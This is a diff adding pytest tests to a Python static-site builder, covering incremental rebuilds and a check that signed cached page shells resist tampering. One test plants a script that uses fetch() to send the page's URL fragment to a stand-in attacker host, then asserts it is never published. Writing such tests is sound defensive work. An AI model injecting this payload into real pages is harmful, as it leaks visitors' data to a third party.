@@ -11,7 +11,7 @@ from pathlib import Path
 import pytest
 
 import handover
-from handover.caching import write_json
+from handover.caching import read_json, write_json
 from handover.rendering import DEFAULT_TEMPLATES
 from tests import sealed
 from tests.conftest import MINIMAL_CASE, REPO, Project
@@ -242,3 +242,51 @@ def test_bytecode_python_writes_rebuilds_nothing(portal: Project) -> None:
     finally:
         probe.unlink(missing_ok=True)
     assert result.output == f"Built 0 client pages (3 unchanged, kept) into {portal.site}\n"
+
+
+# -- Rebuilds without the theme (shells cached, signed) ---------------------------------------
+
+
+def test_a_rebuild_writes_only_the_edited_page(portal: Project) -> None:
+    """Nothing the theme renders changed, so it is not run: the shells it rendered before
+    make the page, and its files (assets, 404 page, home) are the live site's own."""
+    edited = sealed.page_dir(portal.site, "beta").name
+    before = inodes(portal.site)
+    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
+    assert (
+        "Built 1 client page (2 unchanged, kept)"
+        in portal.run("build", "--today", "2026-12-01").output
+    )
+    after = inodes(portal.site)
+    assert {path.split("/")[0] for path in after if after[path] != before.get(path)} == {edited}
+    assert "Quarterly payroll" in sealed.open_page(portal.site, "beta")[0]
+
+
+def test_a_planted_shell_is_never_published(portal: Project, tmp_path: Path) -> None:
+    """The cached shells decide what every rebuilt page holds, so they are signed with a key
+    from the master secret: one planted in a shared CI cache is ignored."""
+    cache = portal.root / ".handover" / "cache" / "shells.json"
+    stored = read_json(cache)
+    planted = "<script>fetch('https://evil.example/'+location.hash)</script>"
+    for row in stored["data"]["shells"]:
+        row[3] = row[3].replace("</head>", planted + "</head>")
+    write_json(cache, stored)  # a good checksum, a signature that no longer holds
+    edit(portal, "beta", "Monthly payroll", "Quarterly payroll")
+    assert (
+        "Built 1 client page (2 unchanged, kept)"
+        in portal.run("build", "--today", "2026-12-01").output
+    )
+    assert not any(b"evil.example" in p.read_bytes() for p in portal.site.rglob("*") if p.is_file())
+    assert tree(portal.site) == full_build(portal, tmp_path / "full")
+
+
+def test_a_page_in_a_language_no_shell_was_made_for_runs_the_theme(
+    portal: Project, tmp_path: Path
+) -> None:
+    edit(portal, "beta", "client:", "language: de\nclient:")
+    assert (
+        "Built 1 client page (2 unchanged, kept)"
+        in portal.run("build", "--today", "2026-12-01").output
+    )
+    assert 'lang="de"' in (sealed.page_dir(portal.site, "beta") / "index.html").read_text()
+    assert tree(portal.site) == full_build(portal, tmp_path / "full")
